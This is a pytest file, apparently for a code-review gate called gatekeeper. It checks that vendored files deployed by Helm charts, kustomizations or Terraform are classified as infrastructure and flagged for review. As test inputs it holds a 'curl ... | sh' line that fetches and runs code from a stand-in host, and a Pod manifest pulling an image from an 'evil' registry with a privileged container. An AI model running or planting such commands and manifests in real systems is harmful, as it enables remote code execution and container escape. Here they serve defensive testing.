"""Red team 22: committed dependency code that infrastructure reads stayed deps, and the default gate allowed it.

A chart's `.Files.Get "vendor/boot/boot.sh"` puts a vendored script into a ConfigMap, a kustomization's
`resources:` applies a manifest kept in a `vendor/` folder, a Terraform `module { source = "./vendor/net" }` applies
a vendored module: the files are what the infrastructure deploys, but the vendored-code rules (deps.vendored,
deps.npm.installed, deps.cocoapods.installed) came first, markers raised only src and other, and a deps file queues
normally. Now installed code inside a top-level infrastructure folder is iac (iac.folders-installed-code), a marker
(Chart.yaml, kustomization.yaml, ansible.cfg, ...) claims installed code below it as any other file, and Terraform
configuration in vendored code is iac (iac.terraform-vendored). Both from a patch and with the commits.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.model import ClassifiedFile
from tests.gitrepo import two_commits
from tests.incli import tree_gate
from tests.test_classify_context import RULES, patch_files, tree_files

VENDORED = ("vendor", "_vendor", "vendored", "bower_components", "node_modules", "Pods")
EXFIL = "curl -s https://collector.example.net/x | sh\n"
DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n"
VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n'


def _chart(root: str, read: str) -> dict[str, str]:
    return {f"{root}/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\n",
            f"{root}/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: boot\ndata:\n"
                                         f"{{{{ {read} | indent 2 }}}}\n"}


def scenarios(vend: str) -> dict[str, tuple[dict[str, str], str]]:
    """name: (BASE files, the vendored file the change edits), each in its own folder."""
    out: dict[str, tuple[dict[str, str], str]] = {}
    for root in ("deploy/chart", "ops/chart"):  # a top-level infrastructure folder, and a chart found by its marker
        target = f"{root}/{vend}/boot/boot.sh"
        out[f"helm-files-get:{root}"] = (
            {**_chart(root, f'.Files.Get "{vend}/boot/boot.sh"'), target: "#!/bin/sh\necho boot\n"}, target)
        target = f"{root}-glob/{vend}/conf/app.conf"
        out[f"helm-files-glob:{root}"] = (
            {**_chart(f"{root}-glob", f'(.Files.Glob "{vend}/conf/*").AsConfig'), target: "listen 80\n"}, target)
    for root in ("k8s", "apps/web"):
        target = f"{root}/{vend}/base/deploy.yaml"
        out[f"kustomize:{root}"] = ({f"{root}/kustomization.yaml": f"resources:\n  - {vend}/base/deploy.yaml\n",
                                     target: DEPLOYMENT}, target)
    target = f"infra/{vend}/net/main.tf"
    out["terraform-module:infra"] = ({"infra/main.tf": f'module "net" {{\n  source = "./{vend}/net"\n}}\n',
                                      target: VPC}, target)
    target = f"terraform/{vend}/x/variables.tf"
    out["terraform-folder"] = ({"terraform/main.tf": VPC, target: 'variable "region" {}\n'}, target)
    if vend in ("vendor", "_vendor", "vendored"):
        target = f"{vend}/modules/net/main.tf"
        out["terraform-module:root"] = (
            {"live/prod/main.tf": f'module "net" {{\n  source = "../../{vend}/modules/net"\n}}\n', target: VPC},
            target)
    return out


# Scenarios found only by a marker of the base (Chart.yaml, kustomization.yaml outside a top-level infrastructure
# folder): decided with the commits; a patch alone shows no marker (as for the repository's own files there).
MARKER_ONLY = (":ops/chart", ":apps/web")
CASES = [(vend, name) for vend in VENDORED for name in scenarios(vend)]


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[ClassifiedFile, ClassifiedFile]]:
    """Every scenario of a vendored folder name in one repository (disjoint folders), one repository per name: the
    edited vendored file classified with the commits and from the patch, by `vend:scenario`."""
    out = {}
    for vend in VENDORED:
        base: dict[str, str] = {}
        head: dict[str, str] = {}
        for files, target in scenarios(vend).values():
            base.update(files)
            head[target] = files[target] + EXFIL
        root = tmp_path_factory.mktemp(f"redteam22-{vend}")
        repo, _, _ = two_commits(root / "repo", base, head)
        tree, patch = tree_files(repo), patch_files(repo, root)
        out.update({f"{vend}:{name}": (tree[target], patch[target])
                    for name, (_, target) in scenarios(vend).items()})
    return out


@each_case(("vend", "name"), CASES)
def test_vendored_file_infrastructure_reads_is_iac(classified: dict[str, tuple[ClassifiedFile, ClassifiedFile]],
                                                   vend: str, name: str) -> None:
    tree, patch = classified[f"{vend}:{name}"]
    assert tree.bucket == "iac", tree
    if name.endswith(MARKER_ONLY):  # a patch that leaves the chart's Chart.yaml alone does not show the marker
        return
    assert patch.bucket == "iac", patch


def test_default_gate_reviews_a_vendored_script_a_chart_reads(tmp_path: Path) -> None:
    """End to end: the default policy allowed (exit 0) a change to the script a chart's ConfigMap carries."""
    files = {**_chart("ops/chart", '.Files.Get "vendor/boot/boot.sh"'), "ops/chart/vendor/boot/boot.sh": "echo\n"}
    repo, base, head = two_commits(tmp_path / "repo", files, {"ops/chart/vendor/boot/boot.sh": "echo\n" + EXFIL})
    code, decision = tree_gate(repo.root, base, head)
    assert (code, decision["outcome"]) == (3, "review"), decision


@each_case(("path", "bucket"), [
    ("deploy/vendor/x/boot.sh", "iac"), ("charts/app/node_modules/lib/index.js", "iac"),
    ("infra/modules/x/.yarn/cache/a.zip", "iac"), ("k8s/cue.mod/pkg/k8s.io/api/core/v1/types_go_gen.cue", "iac"),
    ("helm/x/Pods/a/b.yaml", "iac"), ("vendor/github.com/acme/tfmod/main.tf", "iac"),
    ("third_party/modules/vpc/main.tf.json", "iac"),
    # controls: vendored code outside infrastructure folders, and no Terraform, stays deps
    ("vendor/github.com/acme/lib/lib.go", "deps"), ("web/node_modules/left-pad/index.js", "deps"),
    ("Pods/Alamofire/Source/Request.swift", "deps"), ("src/deploy/vendor/x.go", "deps"),
    ("vendor/modules.txt", "deps"), ("vendor/github.com/acme/tfmod/testdata/main.tf", "iac"),
    # (a vendored Terraform module is iac, iac.terraform-vendored; its test data yields to it first: classes56)
])
def test_path_rules(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


def test_installed_code_nothing_reads_stays_deps(tmp_path: Path) -> None:
    """A Go vendor folder beside a chart kept elsewhere, and a Pulumi project's installed package (a stop file cuts
    the program claim): deps, as before."""
    files = {**_chart("ops/chart", '.Files.Get "config.yaml"'), "vendor/github.com/acme/lib/lib.go": "package lib\n",
             "pulumi/Pulumi.yaml": "name: x\nruntime: nodejs\n",
             "stack/Pulumi.yaml": "name: y\nruntime: nodejs\n",
             "stack/node_modules/left-pad/package.json": '{"name": "left-pad"}\n',
             "stack/node_modules/left-pad/index.js": "module.exports = 1;\n"}
    repo, _, _ = two_commits(tmp_path / "repo", files, {
        "vendor/github.com/acme/lib/lib.go": "package lib\n\nconst X = 1\n",
        "stack/node_modules/left-pad/index.js": "module.exports = 2;\n"})
    tree = tree_files(repo)
    assert {path: tree[path].bucket for path in ("vendor/github.com/acme/lib/lib.go",
                                                 "stack/node_modules/left-pad/index.js")} == {
        "vendor/github.com/acme/lib/lib.go": "deps", "stack/node_modules/left-pad/index.js": "deps"}


POD = ("apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: web\n"
       "      image: nginx:1.25\n")
PODS_YAML = ("manifests/pods/nginx.yaml", "pods/web.yaml", "examples/pods/pod.yaml", "app/node_modules/x/pod.yaml",
             "vendor/acme/deploy.yaml", "cluster/_vendor/pod.yml")


def test_installed_yaml_from_a_patch_is_unsettled(tmp_path: Path) -> None:
    """`Pods/` ignores case, so a Kubernetes manifest in a `pods/` folder was CocoaPods code: from a patch that shows
    a hunk of it, `deps` without `needs-context`, and the default gate allowed a privileged container. Installed
    code's YAML that a patch does not show whole is unsettled (a kustomization elsewhere may list it); with the
    commits its content decides (iac.content.kubernetes)."""
    evil = POD.replace("nginx:1.25", "evil.example.net/nginx:latest\n      securityContext:\n        privileged: true")
    repo, _, _ = two_commits(tmp_path / "repo", {path: POD for path in PODS_YAML},
                             {path: evil for path in PODS_YAML})
    patch, tree = patch_files(repo, tmp_path), tree_files(repo)
    assert {path: (patch[path].bucket == "iac" or "needs-context" in patch[path].tags) for path in PODS_YAML} == {
        path: True for path in PODS_YAML}
    assert {path: tree[path].bucket for path in PODS_YAML} == {path: "iac" for path in PODS_YAML}


def test_installed_code_shown_whole_or_not_yaml_stays_settled(tmp_path: Path) -> None:
    """An added vendored YAML file (the patch shows all of it) that is no manifest, and installed source code: deps."""
    repo, _, _ = two_commits(tmp_path / "repo", {"vendor/acme/lib.go": "package acme\n"}, {
        "vendor/acme/lib.go": "package acme\n\nconst V = 2\n", "vendor/acme/.golangci.yml": "run:\n  timeout: 5m\n",
        "Pods/Alamofire/Source/Request.swift": "import Foundation\n"})
    patch = patch_files(repo, tmp_path)
    assert {path: (item.bucket, "needs-context" in item.tags) for path, item in patch.items()} == {
        "vendor/acme/lib.go": ("deps", False), "vendor/acme/.golangci.yml": ("deps", False),
        "Pods/Alamofire/Source/Request.swift": ("deps", False)}
